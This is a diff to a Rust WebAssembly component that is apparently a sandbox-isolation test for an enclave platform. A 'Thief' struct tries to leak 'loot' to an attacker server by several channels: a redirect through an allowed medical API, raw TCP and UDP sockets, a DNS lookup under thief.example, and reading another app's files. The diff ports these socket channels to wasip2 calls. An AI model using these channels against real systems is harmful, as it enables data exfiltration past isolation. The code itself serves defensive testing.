@@ -5,12 +5,19 @@
 
 use std::env;
 use std::fs;
-use std::io::{Read as _, Write as _};
-use std::net::{TcpStream, ToSocketAddrs as _, UdpSocket};
+use std::io::Read as _;
 
 use wasip2::filesystem::preopens::get_directories;
 use wasip2::http::outgoing_handler;
 use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
+use wasip2::sockets::instance_network::instance_network;
+use wasip2::sockets::ip_name_lookup::resolve_addresses;
+use wasip2::sockets::network::{
+    ErrorCode, IpAddress, IpAddressFamily, IpSocketAddress, Ipv4SocketAddress, Ipv6SocketAddress,
+};
+use wasip2::sockets::tcp_create_socket::create_tcp_socket;
+use wasip2::sockets::udp::OutgoingDatagram;
+use wasip2::sockets::udp_create_socket::create_udp_socket;
 
 use crate::privasys::enclave_os::attestation::set_attestation_extension;
 use crate::privasys::enclave_os::crypto::{self, SignAlgorithm};
@@ -51,6 +58,16 @@ impl Thief {
         Self { server: variable("THIEF"), allowed: variable("MEDICAL_API"), loot: loot.to_owned(), word }
     }
 
+    fn host_and_port(&self) -> (&str, u16) {
+        let (host, port) = self.server.rsplit_once(':').unwrap_or((&self.server, ""));
+        (host, port.parse().unwrap_or(443))
+    }
+
+    /// The server without its name, so that no lookup is in the way.
+    fn address(&self) -> IpSocketAddress {
+        with_port(IpAddress::Ipv4((127, 0, 0, 1)), self.host_and_port().1)
+    }
+
     /// Where a redirect should lead to, as a parameter of a query.
     fn as_parameter(&self) -> String {
         format!("https://{}/{}", self.server, self.word).replace(':', "%3A").replace('/', "%2F")
@@ -68,23 +85,13 @@ const ATTEMPTS: [(&str, Attempt); 16] = [
         fetch(&format!("{}/moved?to={}", thief.allowed, thief.as_parameter()))
     }),
     ("a TCP socket", |thief| {
-        let mut socket = TcpStream::connect(&*thief.server).map_err(|error| error.to_string())?;
-        socket.write_all(thief.loot.as_bytes()).map_err(|error| error.to_string())?;
-        Ok("sent".to_owned())
+        let (host, port) = thief.host_and_port();
+        send_over_tcp(with_port(look_up(host)?, port), &thief.loot)
     }),
-    ("a TCP socket to an address", |thief| {
-        let mut socket = TcpStream::connect(by_address(thief)).map_err(|error| error.to_string())?;
-        socket.write_all(thief.loot.as_bytes()).map_err(|error| error.to_string())?;
-        Ok("sent".to_owned())
-    }),
-    ("a UDP datagram", |thief| {
-        let socket = UdpSocket::bind("0.0.0.0:0").map_err(|error| error.to_string())?;
-        socket.send_to(thief.loot.as_bytes(), by_address(thief)).map_err(|error| error.to_string())?;
-        Ok("sent".to_owned())
-    }),
+    ("a TCP socket to an address", |thief| send_over_tcp(thief.address(), &thief.loot)),
+    ("a UDP datagram", |thief| send_over_udp(thief.address(), &thief.loot)),
     ("a question to the DNS", |thief| {
-        let name = format!("{}.thief.example:443", &thief.word[..thief.word.len().min(60)]);
-        name.to_socket_addrs().map_err(|error| error.to_string())?;
+        look_up(&format!("{}.thief.example", &thief.word[..thief.word.len().min(60)]))?;
         Ok("asked".to_owned())
     }),
     ("the other app's files, by path", |_| {
@@ -149,10 +156,62 @@ fn wasi_http(thief: &Thief, scheme: &Scheme) -> Result<String, String> {
     }
 }
 
-/// The server without its name, so that no lookup is in the way.
-fn by_address(thief: &Thief) -> String {
-    let port = thief.server.rsplit_once(':').map_or("443", |(_, port)| port);
-    format!("127.0.0.1:{port}")
+fn look_up(name: &str) -> Result<IpAddress, String> {
+    let addresses = resolve_addresses(&instance_network(), name).map_err(told)?;
+    let address = waited(|| addresses.resolve_next_address(), || addresses.subscribe().block())?;
+    address.ok_or_else(|| "the name has no address".to_owned())
+}
+
+fn send_over_tcp(to: IpSocketAddress, loot: &str) -> Result<String, String> {
+    let socket = create_tcp_socket(family(&to)).map_err(told)?;
+    socket.start_connect(&instance_network(), to).map_err(told)?;
+    let (_, output) = waited(|| socket.finish_connect(), || socket.subscribe().block())?;
+    output.blocking_write_and_flush(loot.as_bytes()).map_err(|error| error.to_string())?;
+    Ok("sent".to_owned())
+}
+
+fn send_over_udp(to: IpSocketAddress, loot: &str) -> Result<String, String> {
+    let socket = create_udp_socket(family(&to)).map_err(told)?;
+    socket.start_bind(&instance_network(), with_port(IpAddress::Ipv4((0, 0, 0, 0)), 0)).map_err(told)?;
+    waited(|| socket.finish_bind(), || socket.subscribe().block())?;
+    let (_, output) = socket.stream(None).map_err(told)?;
+    output.subscribe().block();
+    output.check_send().map_err(told)?;
+    let datagram = OutgoingDatagram { data: loot.as_bytes().to_vec(), remote_address: Some(to) };
+    match output.send(&[datagram]).map_err(told)? {
+        0 => Err("it was not taken".to_owned()),
+        _ => Ok("sent".to_owned()),
+    }
+}
+
+/// Asks again and again, waiting between, until there is an answer.
+fn waited<T>(ask: impl Fn() -> Result<T, ErrorCode>, wait: impl Fn()) -> Result<T, String> {
+    loop {
+        match ask() {
+            Err(ErrorCode::WouldBlock) => wait(),
+            answer => return answer.map_err(told),
+        }
+    }
+}
+
+fn told(error: ErrorCode) -> String {
+    error.to_string()
+}
+
+fn with_port(address: IpAddress, port: u16) -> IpSocketAddress {
+    match address {
+        IpAddress::Ipv4(address) => IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address }),
+        IpAddress::Ipv6(address) => {
+            IpSocketAddress::Ipv6(Ipv6SocketAddress { port, flow_info: 0, address, scope_id: 0 })
+        }
+    }
+}
+
+fn family(address: &IpSocketAddress) -> IpAddressFamily {
+    match address {
+        IpSocketAddress::Ipv4(_) => IpAddressFamily::Ipv4,
+        IpSocketAddress::Ipv6(_) => IpAddressFamily::Ipv6,
+    }
 }
 
 /// The first that got through, or why the last did not.
